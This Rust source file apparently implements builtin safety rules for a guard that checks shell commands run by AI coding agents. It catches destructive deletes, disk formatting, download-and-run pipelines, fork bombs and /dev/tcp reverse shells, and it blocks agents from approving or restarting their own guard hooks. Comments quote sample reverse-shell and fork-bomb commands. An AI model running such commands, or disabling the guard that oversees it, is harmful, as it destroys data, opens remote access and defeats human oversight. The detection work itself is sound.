//! The builtin rules: what each one catches.

use std::path::Path;

use crate::paths::{self, PathError};
use crate::shell::{self, Command, Pipeline, RedirectOp, Script, ShellScript};

use super::user::wildcard;

mod env;
mod find;
mod git;
mod git_paths;
mod writers;
mod writes;

pub(super) use env::{Env, Place, in_temp_dir, tmpdir};
use find::find_delete;
use git::git;
use writes::write_hits;

/// How a builtin rule decides by default.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Class {
    /// Always denies.
    Deny,
    /// Decides as `builtin_ask` says (ask by default).
    Ask,
    /// Decides as `privileged` says (deny by default).
    Privileged,
}

/// A builtin rule: its stable id (in reasons and in `disable_builtin`), the core pack it
/// belongs to, and its class.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Rule {
    pub(super) id: &'static str,
    pub(super) pack: &'static str,
    pub(super) class: Class,
}

macro_rules! rules {
    ($($pack:literal { $($name:ident = $id:literal, $class:ident;)* })*) => {
        $($(pub(super) const $name: &Rule = &Rule { id: $id, pack: $pack, class: Class::$class };)*)*
        /// Every builtin rule.
        pub(super) const ALL: &[&Rule] = &[$($($name),*),*];
    };
}

rules! {
    "core.filesystem" {
        RM_ROOT = "rm-root", Deny;
        RM_HOME = "rm-home", Deny;
        RM_PROJECT = "rm-project", Deny;
        RM_SYSTEM = "rm-system", Deny;
        MKFS = "mkfs", Deny;
        DD_DEVICE = "dd-device", Deny;
        DEVICE_WRITE = "device-write", Deny;
        SHRED_DEVICE = "shred-device", Deny;
        CHMOD_ROOT = "chmod-root", Deny;
        CHOWN_ROOT = "chown-root", Deny;
        RM_OUTSIDE_PROJECT = "rm-outside-project", Ask;
        RM_UNKNOWN_VARIABLE = "rm-unknown-variable", Ask;
        SYSTEM_FILE_WRITE = "system-file-write", Deny;
        SYSTEM_PATH_WRITE = "system-path-write", Ask;
    }
    "core.git" {
        GIT_FORCE_PUSH_PROTECTED = "git-force-push-protected", Deny;
        GIT_RESET_HARD = "git-reset-hard", Ask;
        GIT_CLEAN = "git-clean", Ask;
        GIT_CLEAN_FILES = "git-clean-files", Ask;
        GIT_DISCARD = "git-discard", Ask;
        GIT_FORCE_PUSH = "git-force-push", Ask;
        GIT_HOOK_WRITE = "git-hook-write", Ask;
        GIT_PAGER_CONFIG = "git-pager-config", Ask;
        RM_GIT_DIR = "rm-git-dir", Ask;
    }
    "core.shell" {
        FORK_BOMB = "fork-bomb", Deny;
        CURL_PIPE_SHELL = "curl-pipe-shell", Deny;
        HOOKS_APPROVE = "hooks-approve", Deny;
        HOOKS_DAEMON = "hooks-daemon", Deny;
        SUDO = "sudo", Privileged;
        EVAL_COMPUTED = "eval-computed", Ask;
        SUBSTITUTION_RUN = "substitution-run", Ask;
        SOURCE_SUBSTITUTION = "source-substitution", Ask;
        DECODE_TO_SHELL = "decode-to-shell", Ask;
        SHELL_STARTUP_WRITE = "shell-startup-write", Ask;
        EDITOR_STARTUP_COMMAND = "editor-startup-command", Ask;
        DOWNLOAD_THEN_RUN = "download-then-run", Ask;
        WRITE_THEN_RUN = "write-then-run", Ask;
        IFS_EXPANSION = "ifs-expansion", Ask;
        PROGRAM_GLOB = "program-glob", Ask;
        COMMAND_VARIABLE = "command-variable", Ask;
        INTERPRETER_DELETE = "interpreter-delete", Ask;
        INTERPRETER_SHELL_OUT = "interpreter-shell-out", Ask;
        DEV_TCP = "dev-tcp", Ask;
    }
}

/// A builtin rule that matched, and what it saw.
pub(super) struct Hit {
    pub(super) rule: &'static Rule,
    pub(super) what: String,
}

pub(super) fn hit(rule: &'static Rule, what: impl Into<String>) -> Hit {
    Hit {
        rule,
        what: what.into(),
    }
}

/// Programs that download.
pub(super) const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "http", "https", "xh"];
/// Programs that run code and are not shells (shells are known to [`Command::shell_script`]).
const INTERPRETERS: &[&str] = &[
    "perl", "ruby", "node", "nodejs", "php", "lua", "deno", "bun", "pwsh", "rscript",
];

/// Programs that format or wipe a disk, besides the `mkfs*` family (`mkfs.ext4`, `mkfs.vfat`).
const FORMATTERS: &[&str] = &["mke2fs", "mkdosfs", "mkexfatfs", "mkntfs", "wipefs"];

/// Flags (before `--`) and operands of `args`.
pub(super) fn split_args(args: &[String]) -> (Vec<&str>, Vec<&str>) {
    let (mut flags, mut operands) = (Vec::new(), Vec::new());
    let mut args = args.iter().map(String::as_str);
    while let Some(arg) = args.next() {
        match arg {
            "--" => operands.extend(args.by_ref()),
            a if a.len() > 1 && a.starts_with('-') => flags.push(a),
            a => operands.push(a),
        }
    }
    (flags, operands)
}

/// True when `flags` hold `-x`, alone or in a cluster (`-rf`). A single-dash long option
/// (Go's flag style: `-address=http://x`, `-http-addr=x`) is no cluster: what comes after a
/// `=` is its value, and a name with a `-` in it is one name, or `-h` would be found in
/// `http` and exempt `vault secrets disable`.
pub(super) fn has_short(flags: &[&str], x: char) -> bool {
    flags.iter().any(|f| {
        !f.starts_with("--")
            && f.get(1..).is_some_and(|c| {
                let name = c.split('=').next().unwrap_or(c);
                !name.contains('-') && name.contains(x)
            })
    })
}

/// True when `flags` hold `--name` or `--name=…`.
pub(super) fn has_long(flags: &[&str], name: &str) -> bool {
    flags.iter().any(|f| {
        f.strip_prefix("--")
            .and_then(|f| f.strip_prefix(name))
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('='))
    })
}

/// True when `flags` hold `--name`, or an abbreviation of it at least `min` letters long, as
/// GNU tools accept (`rm --rec`). Only for detecting an action: an exemption (`--dry-run`)
/// must be spelt out.
pub(super) fn has_long_abbreviated(flags: &[&str], name: &str, min: usize) -> bool {
    flags.iter().any(|f| {
        f.strip_prefix("--")
            .map(|f| f.split_once('=').map_or(f, |(n, _)| n))
            .is_some_and(|given| given.len() >= min && name.starts_with(given))
    })
}

/// A block device: a disk, a partition, a volume (`/dev/sda1`, `/dev/nvme0n1`, `/dev/disk2`,
/// `/dev/mapper/x`, LVM's `/dev/vg/lv`, `/dev/block/8:0`, `/dev/disk/by-id/…`). The path is
/// read lexically (`/dev//sda`, `/dev/./sda`, `/dev/x/../sda` are `/dev/sda`); a relative one
/// is no device (see [`Env::is_disk_at`]).
pub(super) fn is_disk(path: &str) -> bool {
    const DISKS: &[&str] = &[
        "sd", "hd", "vd", "xvd", "nvme", "mmcblk", "disk", "rdisk", "md", "dm-", "loop", "nbd",
        "root", "zd", "rbd", "drbd", "bcache",
    ];
    // Directories of /dev that hold no disk: descriptors, terminals, shared memory, bash's
    // sockets (`/dev/tcp/host/port`), and character devices; every other one (`mapper`,
    // `block`, `disk`, an LVM volume group, `zvol`) holds volumes.
    #[rustfmt::skip]
    const NOT_DISKS: &[&str] = &[
        "fd", "pts", "shm", "tcp", "udp", "mqueue", "hugepages", "net", "snd", "input", "dri",
        "char", "bus", "cpu", "usb", "serial", "vfio", "v4l", "hidraw", "dma_heap",
    ];
    // In any case: macOS's file system finds `/DEV/disk0` at `/dev/disk0`.
    let lower;
    let path = if path.bytes().any(|b| b.is_ascii_uppercase()) {
        lower = path.to_ascii_lowercase();
        &lower
    } else {
        path
    };
    let path = paths::lexical(Path::new(path));
    let Ok(name) = path.strip_prefix("/dev") else {
        return false;
    };
    let names: Vec<_> = name.iter().map(|c| c.to_string_lossy()).collect();
    match names.as_slice() {
        [name] => DISKS.iter().any(|d| name.starts_with(d)),
        [dir, _, ..] => !NOT_DISKS.contains(&dir.as_ref()),
        [] => false,
    }
}

/// The hits of script-wide rules: fork bombs, downloads piped into an interpreter, and the
/// script-wide [`opaque`](super::opaque) rules.
pub(super) fn script_hits(script: &Script, env: &Env<'_>) -> Vec<Hit> {
    let mut hits: Vec<Hit> = script
        .functions
        .iter()
        .filter(|f| calls_itself(script, &f.name))
        .map(|f| {
            hit(
                FORK_BOMB,
                format!("function `{}` calls itself (a fork bomb)", f.name),
            )
        })
        .collect();
    hits.extend(script.pipelines.iter().filter_map(pipe_to_interpreter));
    hits.extend(super::opaque::script_hits(script, env));
    hits
}

/// Whether the function `name` calls itself, directly or through the script's other functions
/// (`a(){ b|b& }; b(){ a|a& }`).
fn calls_itself(script: &Script, name: &str) -> bool {
    fn calls<'s>(script: &'s Script, of: &str) -> impl Iterator<Item = &'s str> {
        (script.functions.iter())
            .filter(move |f| f.name == of)
            .flat_map(|f| f.calls.iter().map(String::as_str))
    }
    let mut seen: Vec<&str> = Vec::new();
    let mut next: Vec<&str> = calls(script, name).collect();
    while let Some(callee) = next.pop() {
        if callee == name {
            return true;
        }
        if !seen.contains(&callee) {
            seen.push(callee);
            next.extend(calls(script, callee));
        }
    }
    false
}

/// `curl … | sh`: a download piped into an interpreter that reads code on standard input.
fn pipe_to_interpreter(pipeline: &Pipeline) -> Option<Hit> {
    let download = pipeline
        .commands
        .iter()
        .position(|c| DOWNLOADERS.contains(&c.program.as_str()))?;
    let runner = pipeline.commands[download + 1..]
        .iter()
        .find(|c| matches!(code_of(c), Some(Code::Stdin)))?;
    Some(hit(
        CURL_PIPE_SHELL,
        format!(
            "downloads with {} and pipes it into {}",
            pipeline.commands[download].program, runner.program
        ),
    ))
}

/// Where an interpreter reads the code it runs.
enum Code<'a> {
    Stdin,
    /// These words are (or name) code.
    Words(Vec<&'a str>),
}

fn code_of(command: &Command) -> Option<Code<'_>> {
    if let Some(script) = command.shell_script() {
        return Some(match script {
            ShellScript::Stdin => Code::Stdin,
            ShellScript::Inline(s) | ShellScript::File(s) => Code::Words(vec![s]),
        });
    }
    let program = command.program.as_str();
    match program {
        "eval" => {
            return Some(Code::Words(
                command.args.iter().map(String::as_str).collect(),
            ));
        }
        "source" | "." => {
            return Some(Code::Words(
                command.args.iter().take(1).map(String::as_str).collect(),
            ));
        }
        _ if !(INTERPRETERS.contains(&program) || program.starts_with("python")) => return None,
        _ => {}
    }
    let mut args = command.args.iter().map(String::as_str);
    while let Some(arg) = args.next() {
        match arg {
            "-" => return Some(Code::Stdin),
            "-c" | "-e" | "-E" | "-r" | "--eval" => {
                return Some(Code::Words(args.next().into_iter().collect()));
            }
            "-m" => return None,
            a if a.starts_with('-') => {}
            a => return Some(Code::Words(vec![a])),
        }
    }
    Some(Code::Stdin)
}

/// True when `word` holds a substitution (`$(…)`, backquotes, `<(…)`) that downloads.
fn downloads(word: &str) -> bool {
    word.contains(['`', '('])
        && shell::parse(word).is_ok_and(|s| {
            s.commands()
                .any(|c| DOWNLOADERS.contains(&c.program.as_str()))
        })
}

/// `cargo clean` removes its target directory with everything in it: `--target-dir DIR`, or
/// `CARGO_TARGET_DIR` set for the command.
fn cargo_clean(command: &Command, env: &Env<'_>) -> Vec<Hit> {
    let mut args = command.args.iter().map(String::as_str);
    if !args.clone().any(|a| a == "clean") {
        return Vec::new();
    }
    let mut targets: Vec<String> = command
        .assignments
        .iter()
        .filter_map(|a| a.strip_prefix("CARGO_TARGET_DIR="))
        .map(str::to_owned)
        .collect();
    while let Some(arg) = args.next() {
        if arg == "--target-dir" {
            targets.extend(args.next().map(str::to_owned));
        } else if let Some(dir) = arg.strip_prefix("--target-dir=") {
            targets.push(dir.to_owned());
        }
    }
    let dir = command.dir.as_deref();
    targets
        .iter()
        .filter_map(|t| env.delete_hit(t, dir, "recursive delete (cargo clean)"))
        .collect()
}

/// The hits of one simple command.
pub(super) fn command_hits(command: &Command, env: &Env<'_>) -> Vec<Hit> {
    let mut hits = Vec::new();
    let program = command.program.as_str();
    let (flags, operands) = split_args(&command.args);
    let dir = command.dir.as_deref();
    if command.privileged || matches!(program, "sudo" | "doas" | "su" | "pkexec" | "run0") {
        hits.push(hit(SUDO, "runs a command as another user (sudo, doas, su)"));
    }
    for r in command
        .redirects
        .iter()
        .filter(|r| r.writes_file() && env.is_disk_at(&r.target, dir))
    {
        hits.push(hit(
            DEVICE_WRITE,
            format!("writes to disk device {}", r.target),
        ));
    }
    // bash's `/dev/tcp/HOST/PORT` and `/dev/udp/…`: a connection from a redirection, the
    // stuff of reverse shells (`bash -i >& /dev/tcp/h/4444 0>&1`, `sh < /dev/tcp/h/4444`).
    // This machine's own ports are not (`exec 3<>/dev/tcp/localhost/8080`, a port check).
    let remote = |target: &str| {
        let host = (target.strip_prefix("/dev/tcp/"))
            .or_else(|| target.strip_prefix("/dev/udp/"))
            .and_then(|rest| rest.split('/').next());
        // A loopback address in full (`127.0.0.1`), not a name that starts like one
        // (`127.0.0.1.example.com`).
        let loopback = |h: &str| {
            h.parse::<std::net::IpAddr>()
                .is_ok_and(|ip| ip.is_loopback())
        };
        host.is_some_and(|h| h != "localhost" && !loopback(h))
    };
    // Reading one into a program that is no shell only connects (`</dev/tcp/db/5432`, the
    // wait-for-a-service idiom); a shell or interpreter reading it runs what comes.
    let runs_input =
        command.shell_script().is_some() || super::interp::reads_code_from_stdin(command);
    let connects = |r: &&shell::Redirect| r.op != RedirectOp::In || runs_input;
    if let Some(r) = (command.redirects.iter()).find(|r| remote(&r.target) && connects(r)) {
        hits.push(hit(
            DEV_TCP,
            format!(
                "opens a network connection through the shell ({})",
                r.target
            ),
        ));
    }
    hits.extend(write_hits(command, &operands, env));
    hits.extend(editor_startup_command(command));
    match program {
        // rm has no other long option starting with `r`: `--r` is `--recursive`.
        "rm" if has_short(&flags, 'r')
            || has_short(&flags, 'R')
            || has_long_abbreviated(&flags, "recursive", 1) =>
        {
            let operands = operands.iter().filter(|o| !o.is_empty());
            hits.extend(operands.filter_map(|o| env.delete_hit(o, dir, "recursive delete")));
        }
        "find" => hits.extend(find_delete(&command.args, dir, env)),
        "chmod" | "chown" | "chgrp" | "setfacl" => {
            let recursive = has_short(&flags, 'R') || has_long_abbreviated(&flags, "recursive", 3);
            let rule = if matches!(program, "chmod" | "setfacl") {
                CHMOD_ROOT
            } else {
                CHOWN_ROOT
            };
            // The first operand is the mode or owner, unless `--reference` or a mode written
            // like a flag (`chmod -R -w /`) took its place.
            // setfacl's ACL is an option's value (`-m u:x:---`), judged as a relative path
            // operand here, which reaches nothing.
            let mode_flag = |f: &&str| f.bytes().skip(1).all(|b| b"rwxXst".contains(&b));
            let skip = usize::from(
                program != "setfacl"
                    && !has_long_abbreviated(&flags, "reference", 3)
                    && !flags.iter().any(mode_flag),
            );
            for operand in operands.iter().skip(skip) {
                // Through variables too, as the shell certainly reads them (`X=/; chmod -R … $X`).
                let readings =
                    std::iter::once(operand.to_string()).chain(env.certain_readings(operand));
                for reading in readings {
                    let (place, path) = env.place(&reading, dir);
                    // Without `-R` only `/` itself: `chmod 000 /` breaks the machine, while
                    // `chmod 700 ~`, `chmod 1777 /tmp` and a system file's mode are the packs'.
                    let reaches = match place {
                        Place::Root => true,
                        Place::Home | Place::System => recursive,
                        _ => false,
                    };
                    if reaches {
                        let how = if recursive { "recursive " } else { "" };
                        hits.push(hit(rule, format!("{how}{program} of {}", path.display())));
                        break;
                    }
                }
            }
        }
        p if p.starts_with("mkfs") || FORMATTERS.contains(&p) => {
            // wipefs only lists signatures without `-a`/`-o`, and `-n` changes nothing.
            let wipes = p != "wipefs"
                || ((has_short(&flags, 'a') || has_long(&flags, "all"))
                    || (has_short(&flags, 'o') || has_long(&flags, "offset")))
                    && !(has_short(&flags, 'n') || has_long(&flags, "no-act"));
            // A file that is no device (an image: `mkfs.ext4 build/rootfs.img`) formats
            // nothing else; a device, a path computed when it runs, or no path at all does.
            let image_only = !operands.is_empty()
                && operands.iter().all(|o| {
                    !o.contains(['$', '`'])
                        && !env.is_disk_at(o, dir)
                        && !env.place(o, dir).1.starts_with("/dev")
                });
            if wipes && !image_only {
                hits.push(hit(MKFS, format!("{p} formats or wipes a disk")));
            }
        }
        // dcfldd's and dc3dd's outputs too (`hof=`, `fhod=`, dc3dd's `wipe=`).
        "dd" => hits.extend(
            operands
                .iter()
                .filter_map(|o| {
                    ["of=", "hof=", "fhod=", "wipe=", "hwipe="]
                        .iter()
                        .find_map(|p| o.strip_prefix(p))
                })
                .filter(|d| env.is_disk_at(d, dir))
                .map(|d| hit(DD_DEVICE, format!("dd writes to disk device {d}"))),
        ),
        "shred" => hits.extend(
            operands
                .iter()
                .filter(|o| env.is_disk_at(o, dir))
                .map(|d| hit(SHRED_DEVICE, format!("shred overwrites disk device {d}"))),
        ),
        "tee" | "cp" => hits.extend(
            operands
                .iter()
                .filter(|o| env.is_disk_at(o, dir))
                .map(|d| hit(DEVICE_WRITE, format!("{program} writes to disk device {d}"))),
        ),
        "git" => {
            hits.extend(git(command, env));
            hits.extend(git::pager_config(&command.args));
        }
        // `cargo run --bin hooks -- trust --approve` runs the same approval.
        "hooks" | "cargo" => {
            hits.extend(hooks_approve(&command.args));
            hits.extend(hooks_daemon(program, &command.args));
            if program == "cargo" {
                hits.extend(cargo_clean(command, env));
            }
        }
        // Recursive deletes by other names: a global `rimraf`, del-cli's `del`, the trash
        // programs (a whole tree moved away is gone from where it was), `cmake -E rm -r`.
        "rimraf" | "del-cli" | "del" | "trash" | "trash-put" | "trash-cli" | "rmtrash" => hits
            .extend(
                operands
                    .iter()
                    .filter_map(|o| env.delete_hit(o, dir, "recursive delete")),
            ),
        // `tar --remove-files` deletes what it archived, directories with what they hold.
        "tar" | "gtar" | "bsdtar" => hits.extend(
            (writes::tar_removes(&command.args).iter())
                .filter_map(|o| env.delete_hit(o, dir, "tar --remove-files")),
        ),
        // `zip -m` and `7z a -sdel` delete what they archived too.
        "zip" => hits.extend(
            (writes::zip_moves(&command.args).iter())
                .filter_map(|o| env.delete_hit(o, dir, "zip -m")),
        ),
        "7z" | "7za" | "7zz" | "7zr" => hits.extend(
            (writes::seven_zip_deletes(&command.args).iter())
                .filter_map(|o| env.delete_hit(o, dir, "7z -sdel")),
        ),
        "cmake" if command.args.first().is_some_and(|a| a == "-E") => {
            let sub = command.args.get(1).map(String::as_str);
            let recursive = match sub {
                Some("remove_directory" | "rm_rf") => true,
                Some("rm") => command.args[2..]
                    .iter()
                    .any(|a| a.starts_with('-') && a.contains(['r', 'R'])),
                _ => false,
            };
            if recursive {
                let paths = command.args[2..].iter().filter(|a| !a.starts_with('-'));
                hits.extend(paths.filter_map(|o| env.delete_hit(o, dir, "recursive delete")));
            }
        }
        _ => {}
    }
    if downloads(program) {
        hits.push(hit(
            CURL_PIPE_SHELL,
            "runs the output of a download as a command",
        ));
    }
    if let Some(Code::Words(code)) = code_of(command) {
        let herestrings = command
            .redirects
            .iter()
            .filter(|r| r.op == RedirectOp::HereString)
            .map(|r| r.target.as_str());
        if code.into_iter().chain(herestrings).any(downloads) {
            hits.push(hit(
                CURL_PIPE_SHELL,
                format!("{program} runs code downloaded by a substitution"),
            ));
        }
    }
    hits.extend(super::opaque::command_hits(command, env));
    hits.extend(super::interp::command_hits(command, env));
    // The first hit of each rule is the one reported: a command with thousands of
    // redirections to system files is one finding, not thousands of reasons that each
    // quote it.
    let mut seen: Vec<&str> = Vec::new();
    hits.retain(|hit| {
        let first = !seen.contains(&hit.rule.id);
        seen.push(hit.rule.id);
        first
    });
    hits
}

/// vi's family: what a `+cmd` argument runs is an ex command.
const VI_EDITORS: &[&str] = &[
    "vim",
    "vi",
    "nvim",
    "ex",
    "view",
    "vimdiff",
    "gvim",
    "rvim",
    "evim",
    "vim.basic",
    "vim.tiny",
];

/// `vim +cmd`: any ex command can run a shell one (`+!cmd`, `+r !cmd`, `+5!cmd`,
/// `+call system(…)`, `+/x/!cmd`). Only `+`, `+N`, `+$` and a search with nothing after it
/// (`+/pattern`, `+?pattern`, no `|` and no second delimiter) just move the cursor. Each
/// argument is judged alone (`vim +/x 'a|b.txt'` is a search and a file).
fn editor_startup_command(command: &Command) -> Option<Hit> {
    if !VI_EDITORS.contains(&command.program.as_str()) {
        return None;
    }
    let moves_only = |cmd: &str| {
        if cmd.is_empty() || cmd == "$" || cmd.bytes().all(|b| b.is_ascii_digit()) {
            return true;
        }
        let Some(delimiter) = cmd.chars().next().filter(|c| matches!(c, '/' | '?')) else {
            return false;
        };
        let mut escaped = false;
        for c in cmd.chars().skip(1) {
            match c {
                _ if escaped => escaped = false,
                '\\' => escaped = true,
                '|' => return false,
                c if c == delimiter => return false,
                _ => {}
            }
        }
        true
    };
    let arg = (command.args.iter())
        .take_while(|a| *a != "--")
        .filter_map(|a| a.strip_prefix('+'))
        .find(|cmd| !moves_only(cmd))?;
    Some(hit(
        EDITOR_STARTUP_COMMAND,
        format!(
            "{} runs the ex command `{}` given on its command line, and an ex command can run a shell one (`+!cmd`, `+r !cmd`, `+call system(…)`); only `+N` and `+/pattern` just move the cursor",
            command.program,
            arg.escape_debug()
        ),
    ))
}

/// `hooks trust … --approve`: approving hooks is a person's review of what they run; an agent
/// that approves its own edited hook has switched that guard off.
fn hooks_approve(args: &[String]) -> Option<Hit> {
    let trust = args.iter().any(|a| a == "trust");
    let approves = args
        .iter()
        .any(|a| a == "--approve" || a == "--accept-unhashed" || a.starts_with("--approve="));
    (trust && approves).then(|| {
        hit(
            HOOKS_APPROVE,
            "approving hooks is for a person to do after reviewing them, in their own terminal",
        )
    })
}

/// `hooks serve` and `hooks install`: the daemon that answers for every agent of the user, and
/// the agent's own hook settings, are the guard's; an agent that starts its own daemon or
/// rewrites the entries has replaced the guard that watches it.
fn hooks_daemon(program: &str, args: &[String]) -> Option<Hit> {
    // `cargo run … -- serve`: what follows `--` is the binary's command line.
    let args = if program == "cargo" {
        let run = args.iter().any(|a| a == "run");
        let after = args.iter().position(|a| a == "--")?;
        if !run {
            return None;
        }
        &args[after + 1..]
    } else {
        args
    };
    let sub = args.iter().find(|a| !a.starts_with('-'))?;
    matches!(sub.as_str(), "serve" | "install").then(|| {
        hit(
            HOOKS_DAEMON,
            format!(
                "`hooks {sub}` starts or rewires the hooks that guard this agent; a person does that, in their own terminal"
            ),
        )
    })
}

#[cfg(test)]
mod tests;
